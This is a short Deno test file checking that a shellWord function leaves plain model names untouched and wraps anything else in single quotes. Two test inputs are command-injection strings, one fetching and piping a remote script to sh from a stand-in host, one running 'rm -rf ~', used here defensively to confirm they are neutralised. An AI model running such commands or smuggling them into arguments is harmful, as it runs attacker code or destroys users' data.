import assert from "node:assert/strict";
import { shellWord } from "./shell_word.ts";

Deno.test("a plain model name stays as it is; anything else becomes one quoted word", () => {
  for (const name of ["llama3.2:3b", "hf.co/bartowski/Llama-3.2-1B-GGUF:Q4_K_M", "a@b+c"]) {
    assert.equal(shellWord(name), name);
  }
  assert.equal(
    shellWord("x; curl -s http://e.example/x.sh | sh #"),
    "'x; curl -s http://e.example/x.sh | sh #'",
  );
  assert.equal(shellWord("it's $(rm -rf ~)"), `'it'\\''s $(rm -rf ~)'`);
  assert.equal(shellWord(""), "''");
});
